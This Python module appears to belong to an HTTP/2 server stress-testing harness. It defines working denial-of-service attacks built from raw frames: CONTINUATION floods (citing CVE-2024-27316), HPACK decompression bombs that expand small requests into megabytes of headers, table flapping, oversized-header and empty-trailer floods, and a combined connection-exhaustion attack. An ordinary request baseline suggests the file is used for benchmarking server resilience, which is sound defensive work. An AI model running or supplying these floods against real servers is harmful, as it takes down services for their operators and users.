"""Attacks by header blocks; see http2_attacks.py."""
import http2_frames as h2
from http2_attacks import (BURST, GET, HOLD, POST, Attack, DataFlood, DataOfReset, Paced, block, burst_of,
                           each, field)
from http2_frames import continuation, headers

FLAP = b"\x20\x3f\xe1\x1f"  # the table's size: 0, then 4096
FILL = h2.literal("x", "v" * 4030, first=0x40)  # an entry as large as the table
REPEAT = b"\xbe"  # the newest entry of the table


# ---- heads that do not end ---------------------------------------------------------------------------


class ContinuationFlood(Attack):
    """A head that never ends (CVE-2024-27316), in CONTINUATIONs of one field each."""

    def script(self):
        yield self.opening() + headers(GET, 1, end_headers=False)
        while True:
            yield burst_of(type(self), 0)

    @staticmethod
    def burst(number):
        return continuation(field("x", "y"), end_headers=False) * BURST


class ContinuationsOfOneByte(ContinuationFlood):
    """A head that never ends, one byte in each CONTINUATION, of a field that never ends either."""
    code = h2.COMPRESSION_ERROR

    def script(self):
        yield self.opening() + headers(GET + b"\x00\x01x\x7f\xff\xff\x0f", 1, end_headers=False)
        while True:
            yield burst_of(type(self), 0)

    @staticmethod
    def burst(number):
        return continuation(b"x", end_headers=False) * 6000


class EmptyContinuations(ContinuationFlood):
    """A head that never ends, in CONTINUATIONs without content."""

    @staticmethod
    def burst(number):
        return continuation(b"", end_headers=False) * 6000


# ---- heads that are small and become large ------------------------------------------------------------


class HpackBomb(Attack):
    """An entry of 4 KB in the table that a request repeats 16,000 times: 65 MB of fields a request."""

    def script(self):
        yield self.opening() + headers(block(more=FILL), 1)
        while True:
            yield burst_of(type(self), 0)

    @staticmethod
    def burst(number):
        return each(20, lambda s: headers(block(more=REPEAT * 16000), s), 3)


class HpackWithinLimits(Paced):
    """Requests of 40 bytes that become heads of 32 KB, as many as are allowed."""
    ends = True
    first = 3

    def prepare(self):
        return headers(block(more=FILL), 1)

    @staticmethod
    def stream(number):
        return headers(block(more=REPEAT * 7), number)


class HpackTrailers(Paced):
    """Uploads whose trailers are 16,000 references to the table: fields that nobody asked for."""
    ends = True
    batch = 4

    @staticmethod
    def stream(number):
        return headers(block(method=POST), number, end_stream=False) + \
            headers(b"\x90" * 16000, number)


class HpackOfReset(DataOfReset):
    """Trailers of 16,000 fields on a stream that the server has reset: decoded for nothing."""

    @staticmethod
    def burst(number):
        return headers(b"\x90" * 16000, 1) * 4


class TableFlapping(Paced):
    """Requests that empty the HPACK table and fill it again."""

    @staticmethod
    def stream(number):
        fill = h2.literal("x", "v" * 30, first=0x40)
        return headers(FLAP * 20 + GET + fill * 20, number)


# ---- heads that are large ------------------------------------------------------------------------------


def large_head(stream, fields, path="/"):
    """A request with so many fields of 1 KB."""
    whole = block(path) + b"".join(field(f"x{n}", "v" * 950) for n in range(fields))
    pieces = [whole[at:at + 16384] for at in range(0, len(whole), 16384)]
    return headers(pieces[0], stream, end_headers=False) + b"".join(
        continuation(piece, stream, piece is pieces[-1]) for piece in pieces[1:])


class HeaderFlood(Paced):
    """Requests as large as is allowed, 32 KB of literal fields each."""
    batch = 20

    @staticmethod
    def stream(number):
        return large_head(number, 32)


class TooLargeHeads(Paced):
    """Requests larger than is allowed: each is answered 431."""
    batch = 20

    @staticmethod
    def stream(number):
        return large_head(number, 48)


class UnknownHosts(Paced):
    """Requests for a site that is not here: a page and a line in the log for 20 bytes."""

    @staticmethod
    def stream(number):
        return headers(block(authority="no.test"), number)


class EmptyTrailers(DataFlood):
    """HEADERS without a field in the middle of an upload, without end."""

    @classmethod
    def burst(cls, number):
        return headers(b"", 1, end_stream=False) * 6000


class Requests(Paced):
    """For comparison, no attack: ordinary requests as fast as they are taken."""

    @staticmethod
    def stream(number):
        return headers(GET, number)


class Everything(Attack):
    """All that a connection can hold at a time: answers, bodies and heads, none of which gets on."""
    settings = ((h2.INITIAL_WINDOW_SIZE, 0),)
    idles = True
    ends = False

    def script(self):
        yield self.opening()
        yield each(16, lambda s: headers(block("/big?n=1000000"), s))
        yield each(15, self.upload, 33)
        yield each(60, lambda s: large_head(s, 30, "/hang"), 63)
        yield HOLD

    @staticmethod
    def upload(stream):
        return headers(block("/unread", POST), stream, end_stream=False) + \
            h2.data(bytes(16384), stream, end_stream=False) * 3
